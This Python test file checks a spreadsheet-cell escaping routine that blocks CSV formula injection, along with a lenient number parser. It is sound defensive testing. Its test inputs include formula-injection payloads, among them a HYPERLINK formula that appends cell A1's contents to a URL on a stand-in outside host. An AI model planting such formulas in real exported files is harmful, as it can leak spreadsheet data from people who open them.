"""Cells that no spreadsheet takes for a formula, and numbers as people write them."""

from __future__ import annotations

import pytest
from hypothesis import given as each
from hypothesis import strategies as st

from genaipa.files.spreadsheets import escape_formula, parse_number, unescape_formula

FORMULA = '=HYPERLINK("http://example.com/?"&A1)'


@each(st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n; ,ax\uff1d\u00a0"))), st.booleans())
def test_an_escaped_text_is_read_back_as_it_was(text: str, csv: bool) -> None:
    """The cell of any text gives the very same text."""
    assert unescape_formula(escape_formula(text, in_csv=csv), in_csv=csv) == text


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t1", "\r1", " =1", "'=1", "\uff1d1", FORMULA])
def test_a_cell_never_begins_like_a_formula(text: str) -> None:
    """An apostrophe comes first in the cell of a text that a spreadsheet would take for a formula."""
    assert escape_formula(text, in_csv=True) == escape_formula(text, in_csv=False) == f"'{text}"


def test_a_formula_is_not_hidden_behind_another_separator() -> None:
    """A spreadsheet that expects semicolons or tabs finds no formula inside a cell of a CSV file either."""
    assert escape_formula("a;=1", in_csv=True) == "a;'=1"
    assert escape_formula("a\n@x\r\n; -2", in_csv=True) == "a\n'@x\r\n;' -2"
    assert escape_formula("a;b - c = d", in_csv=True) == "a;b - c = d"
    assert escape_formula("- one\n- two", in_csv=False) == "'- one\n- two"


@pytest.mark.parametrize(
    ("cell", "value"),
    [("1", 1), ("+1", 1), ("1.0", 1), ("0,5", 0.5), (".5", 0.5), ("\u22121", -1), ("\u20131,0", -1), (" - 1 ", -1)],
)
def test_numbers_are_read_as_people_write_them(cell: str, value: float) -> None:
    """Plus signs, decimal commas, typographic minuses and blanks are all fine."""
    assert parse_number(cell) == value


@pytest.mark.parametrize("cell", ["", "nan", "inf", "0_1", "1e0", "TRUE", "1.5.2026", "eins", "1,000.0"])
def test_what_is_no_number_is_not_read_as_one(cell: str) -> None:
    """Nothing is made into a number that people would not take for one."""
    with pytest.raises(ValueError, match="is not a number"):
        parse_number(cell)
